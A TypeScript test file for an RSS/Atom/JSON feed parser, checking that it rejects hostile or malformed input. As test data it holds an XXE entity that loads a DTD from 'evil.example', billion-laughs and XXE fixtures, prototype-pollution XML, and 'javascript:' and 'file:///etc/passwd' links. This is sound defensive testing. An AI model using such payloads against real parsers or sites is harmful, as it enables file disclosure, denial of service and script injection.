import { fc, test as fcTest } from '@fast-check/vitest';
import { XMLParser } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { parseFeed } from '../../src/feeds/parse-feed.ts';
import { FEED_LIMITS } from '../../src/feeds/types.ts';
import { parseXml, SAFE_XML_OPTIONS } from '../../src/feeds/xml.ts';
import { fixture } from './fixture.ts';

const URL = 'https://feeds.example.com/rss';

function rss(items: string, channel = '<title>T</title>'): string {
  return `<?xml version="1.0"?><rss version="2.0"><channel>${channel}${items}</channel></rss>`;
}

function expectError(text: string, pattern: RegExp, url = URL): void {
  const r = parseFeed(text, url);
  expect(r.ok).toBe(false);
  if (!r.ok) expect(r.error).toMatch(pattern);
}

describe('entities', () => {
  it('the parser settings never expand DOCTYPE entities (billion laughs)', () => {
    const out = new XMLParser(SAFE_XML_OPTIONS).parse(fixture('billion-laughs.xml')) as unknown;
    const json = JSON.stringify(out);
    expect(json).toContain('&lol9;');
    expect(json).not.toContain('lollol');
    expect(json.length).toBeLessThan(2000);
  });

  it('the parser settings never resolve external entities (XXE)', () => {
    let json = '';
    try {
      json = JSON.stringify(new XMLParser(SAFE_XML_OPTIONS).parse(fixture('xxe.xml')));
    } catch (e) {
      expect(String(e)).toMatch(/external entit/i); // fast-xml-parser refuses SYSTEM entities outright
    }
    expect(json).not.toMatch(/root:|\/bin\/(ba)?sh/);
  });

  it('parseFeed refuses any DOCTYPE with an internal subset, quickly', () => {
    const t = performance.now();
    expectError(fixture('billion-laughs.xml'), /declares entities/);
    expectError(fixture('xxe.xml'), /declares entities/);
    expectError('<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]><rss/>', /declares entities/);
    expect(performance.now() - t).toBeLessThan(1000);
  });

  it('leaves undeclared entities as text and decodes only XML and numeric references', () => {
    const r = parseFeed(rss('<item><title>&lol; &amp;amp; &#65;&#x42; &#0; &#xD800;</title><link>https://a.example/1</link></item>'), URL);
    // RSS titles are read as HTML (feeds escape them twice), so &amp;amp; ends as &.
    expect(r.ok && r.feed.items[0]!.title).toBe('&lol; & AB \ufffd \ufffd');
    const atom = parseFeed(
      '<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title><entry><title type="text">&lol; &amp;amp; &#65;</title><link href="https://a.example/1"/></entry></feed>',
      URL,
    );
    expect(atom.ok && atom.feed.items[0]!.title).toBe('&lol; &amp; A');
  });

  it('parseXml refuses the same documents and never throws', () => {
    expect(parseXml(fixture('billion-laughs.xml')).ok).toBe(false);
    expect(parseXml('<a><b></a>').ok).toBe(false);
  });
});

describe('malformed and hostile input', () => {
  it('gives clear errors for non-feeds', () => {
    expectError(fixture('html-page.html'), /HTML page, not a feed/);
    expectError('<html><body>hi</body></html>', /HTML page/);
    expectError(fixture('truncated.xml'), /not well-formed XML: .*\(line \d+, column \d+\)/);
    expectError('<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>', /root element is <\{http:\/\/www.w3.org\/2000\/svg\}svg>/);
    expectError('<opml version="2.0"><body/></opml>', /root element is <opml>/);
    expectError('', /empty/);
    expectError(' \n\t ', /empty/);
    expectError('Just some text', /neither XML nor JSON/);
    expectError('<rss><channel><title>x</title></channel></rss>trailing', /not well-formed/);
  });

  it('refuses a bad feed URL and non-text input', () => {
    expectError(rss(''), /feed URL/, 'feed.xml');
    expectError(rss(''), /feed URL/, 'file:///etc/feed.xml');
    expect(parseFeed(42 as unknown as string, URL)).toEqual({ ok: false, error: 'the feed is not text' });
  });

  it('refuses feeds over the size limit', () => {
    expectError('x'.repeat(FEED_LIMITS.maxChars + 1), /too large \(5\.0 MB; the limit is 5\.0 MB\)/);
    const r = parseFeed(rss('<item><title>A</title><link>https://a.example/</link></item>'), URL, { maxChars: 50 });
    expect(!r.ok && r.error).toMatch(/too large/);
  });

  it('refuses deep nesting and prototype-polluting names without throwing', () => {
    expectError('<rss>' + '<a>'.repeat(5000) + '</a>'.repeat(5000) + '</rss>', /refused|not well-formed/);
    expectError('<rss><channel><__proto__><polluted>yes</polluted></__proto__></channel></rss>', /refused|not well-formed/);
    expectError('<rss><channel constructor="x"><title>t</title></channel></rss>', /refused|not well-formed/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('keeps error messages short, whatever the input', () => {
    for (const text of [
      '<rss a=' + '"'.repeat(10_000) + '/>',
      '<rss>' + '<'.repeat(10_000) + '</rss>',
      '<rss>' + '<a>'.repeat(90) + 'x',
      '{"version": ' + '['.repeat(10_000),
    ]) {
      const r = parseFeed(text, URL);
      expect(r.ok).toBe(false);
      if (!r.ok) expect(r.error.length).toBeLessThan(300);
    }
  });

  it('keeps at most maxItems items and counts the rest as skipped', () => {
    const items = Array.from({ length: 620 }, (_, i) => `<item><title>Item ${i}</title><link>https://a.example/${i}</link></item>`).join('');
    const r = parseFeed(rss(items), URL);
    expect(r.ok && r.feed.items.length).toBe(FEED_LIMITS.maxItems);
    expect(r.ok && r.feed.skipped).toBe(120);
    const few = parseFeed(rss(items), URL, { maxItems: 3 });
    expect(few.ok && few.feed.items.map((i) => i.title)).toEqual(['Item 0', 'Item 1', 'Item 2']);
  });

  it('caps string lengths and drops over-long links', () => {
    const long = 'word '.repeat(5000);
    const r = parseFeed(
      rss(
        `<item><title>${long}</title><description>${long}</description><link>https://a.example/1</link><guid isPermaLink="false">${'g'.repeat(5000)}</guid></item>` +
          `<item><title>Long link</title><link>https://a.example/${'x'.repeat(3000)}</link></item>`,
        `<title>${long}</title>`,
      ),
      URL,
    );
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    const [it] = r.feed.items;
    expect(r.feed.items).toHaveLength(1);
    expect(it!.title.length).toBeLessThanOrEqual(FEED_LIMITS.titleChars);
    expect(it!.title.endsWith('…')).toBe(true);
    expect(it!.summary.length).toBeLessThanOrEqual(FEED_LIMITS.summaryChars);
    expect(it!.guid!.length).toBeLessThanOrEqual(FEED_LIMITS.guidChars);
    expect(it!.outlet.length).toBeLessThanOrEqual(FEED_LIMITS.outletChars);
  });

  it('keeps only http(s) links without credentials', () => {
    const links = [
      'javascript:alert(1)',
      'data:text/html,x',
      'file:///etc/passwd',
      'ftp://a.example/x',
      'https://user:pw@a.example/x',
      'vbscript:x',
      ' JaVaScRiPt:alert(1)',
      'https://ok.example/x',
    ];
    const r = parseFeed(rss(links.map((l, i) => `<item><title>${i}</title><link>${l.replace(/&/g, '&amp;')}</link></item>`).join('')), URL);
    expect(r.ok && r.feed.items.map((i) => i.link)).toEqual(['https://ok.example/x']);
  });

  it('parses a feed of about 1 MB', () => {
    const items = Array.from(
      { length: 6000 },
      (_, i) =>
        `<item><title>T ${i}</title><link>https://a.example/${i}</link><description><![CDATA[<p>Some <b>summary</b> text number ${i} with more words.</p>]]></description></item>`,
    ).join('');
    const text = rss(items);
    expect(text.length).toBeGreaterThan(900_000);
    const r = parseFeed(text, URL);
    expect(r.ok && r.feed.items.length).toBe(500);
  });

  fcTest.prop([fc.string({ maxLength: 400 })], { numRuns: 300 })('never throws on arbitrary text', (s) => {
    const r = parseFeed(s, URL);
    expect(typeof r.ok).toBe('boolean');
  });

  const samples = ['rss2-broadcaster.xml', 'rss2-wordpress.xml', 'rss2-quirks.xml', 'rss1-rdf.xml', 'atom-tech.xml', 'json-feed.json'].map(fixture);
  fcTest.prop([fc.nat(samples.length - 1), fc.nat(), fc.nat(), fc.string({ maxLength: 20 })], { numRuns: 300 })(
    'never throws on damaged real-looking feeds, and every item it returns is well-formed',
    (which, a, b, insert) => {
      const text = samples[which]!;
      const i = a % text.length;
      const j = Math.min(text.length, i + (b % 40));
      const r = parseFeed(text.slice(0, i) + insert + text.slice(j), URL);
      if (!r.ok) {
        expect(r.error.length).toBeGreaterThan(0);
        return;
      }
      for (const item of r.feed.items) {
        expect(item.link).toMatch(/^https?:\/\//);
        expect(item.title.length).toBeGreaterThan(0);
        if (item.published) expect(Number.isFinite(Date.parse(item.published))).toBe(true);
      }
    },
  );
});
